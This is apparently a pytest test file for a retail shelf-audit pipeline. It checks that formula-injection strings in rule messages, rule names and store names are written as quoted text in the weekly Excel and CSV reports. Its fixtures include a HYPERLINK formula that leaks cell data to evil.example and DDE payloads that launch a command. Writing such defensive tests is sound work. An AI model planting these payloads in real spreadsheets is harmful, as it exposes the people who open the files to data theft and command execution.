"""Formula injection through the weekly report (OWASP "CSV injection"): a rule message, a rule
name or a store name that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must
reach the Excel file as a text cell (never a formula) and the CSV with a leading ``'``."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

STORE, WEEK = "s001", "2026-W46"
HOSTILE = {
    "hyperlink-leak": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "dde-plus": "+cmd|' /C calc'!A0",
    "dde-minus": "-2+3+cmd|' /C calc'!A0",
    "at-function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-formula": "\t=1+1",
    "carriage-return-formula": '\r=HYPERLINK("http://evil.example/","x")',
}
CASES = list(HOSTILE.values())
IDS = list(HOSTILE)


def _poison(*, message: str | None = None, rule: str | None = None,
            store_name: str | None = None) -> None:
    """Put hostile text where people's words reach the report: messages, rule and store names."""
    from pipeline.db import session_scope
    from pipeline.db import tables as t

    with session_scope() as s:
        if message is not None:
            s.execute(update(t.Violation).where(t.Violation.rule_id == "water-upright")
                      .values(message=message))
        if rule is not None:
            s.execute(update(t.Violation).where(t.Violation.rule_id == "cola-facings")
                      .values(rule_id=rule))
        if store_name is not None:
            s.execute(update(t.Store).where(t.Store.id == STORE).values(name=store_name))


def _files() -> tuple[list[dict[str, str]], object]:
    from openpyxl import load_workbook

    from pipeline.reports import build as reports

    report = reports.build_report(STORE, WEEK)
    rows = list(csv.DictReader(io.StringIO(reports.render(report, "csv").decode("utf-8"))))
    return rows, load_workbook(io.BytesIO(reports.render(report, "xlsx", pictures={})))


def _same_text(read_back: str, written: str) -> bool:
    # XML turns a bare carriage return into a line feed; the cell is text either way
    return read_back.replace("\r", "\n") == written.replace("\r", "\n")


def _text_cells(wb, text: str) -> list:
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and _same_text(c.value, text)]
    assert found, f"{text!r} is not in the workbook"
    return found


def _no_formulas(wb) -> None:
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == [], f"live formulas in the report: {formulas}"


@pytest.mark.parametrize("text", CASES, ids=IDS)
def test_a_hostile_rule_message_is_text_in_the_excel_report(small_db, text):
    _poison(message=text)
    _, wb = _files()
    _no_formulas(wb)
    examples = [row[5] for row in wb["Top problems"].iter_rows(min_row=2)]
    hostile = [c for c in examples if _same_text(c.value, text)]
    assert hostile, "the message is not in the Top problems sheet"
    for cell in hostile:
        assert cell.data_type == "s" and cell.quotePrefix is True


@pytest.mark.parametrize("text", CASES, ids=IDS)
def test_a_hostile_rule_message_is_quoted_in_the_csv_report(small_db, text):
    _poison(message=text)
    rows, _ = _files()
    messages = [r["value"] for r in rows if r["metric"] in ("example", "problem")
                and "water-upright" not in r["value"] and "cola-facings" not in r["value"]]
    assert messages and all(m == "'" + text for m in messages)


@pytest.mark.parametrize("text", CASES, ids=IDS)
def test_hostile_rule_and_store_names_are_text_in_both_files(small_db, text):
    _poison(rule=text, store_name=text)
    rows, wb = _files()
    _no_formulas(wb)
    for cell in _text_cells(wb, text):
        assert cell.data_type == "s" and cell.quotePrefix is True
    names = [r["item"] for r in rows if r["section"] in ("violations_by_rule", "top_problems")]
    assert "'" + text in names
    assert not any(n.startswith(text) for n in names)
    store_name = [r["value"] for r in rows if r["item"] == "store_name"]
    assert store_name == ["'" + text]


def test_plain_words_and_negative_numbers_are_left_alone(small_db):
    _poison(message="Refill shelf 2 — 特价 SALE")
    rows, wb = _files()
    assert "Refill shelf 2 — 特价 SALE" in [r["value"] for r in rows if r["metric"] == "example"]
    cell = next(c for c in _text_cells(wb, "Refill shelf 2 — 特价 SALE"))
    assert cell.quotePrefix is False
    changes = [r["value"] for r in rows if r["metric"] == "change_pts" and r["value"]]
    assert changes and all(not v.startswith("'") and float(v) == float(v) for v in changes)


def test_the_report_command_writes_the_message_as_text(small_db, tmp_path):
    """The path the audit took: ``shelfaudit report --format xlsx`` (and the CSV beside it)."""
    from openpyxl import load_workbook

    from pipeline.cli import app

    text = HOSTILE["hyperlink-leak"]
    _poison(message=text)
    result = CliRunner().invoke(app, ["report", "--store", STORE, "--week", WEEK,
                                      "--format", "xlsx", "--format", "csv",
                                      "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    wb = load_workbook(tmp_path / f"report-{STORE}-{WEEK}.xlsx")
    _no_formulas(wb)
    cell = next(c for c in wb["Top problems"]["F"] if c.value == text)
    assert cell.data_type == "s"
    with (tmp_path / f"report-{STORE}-{WEEK}.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row if "HYPERLINK" in cell]
    assert cells and all(cell == "'" + text for cell in cells)
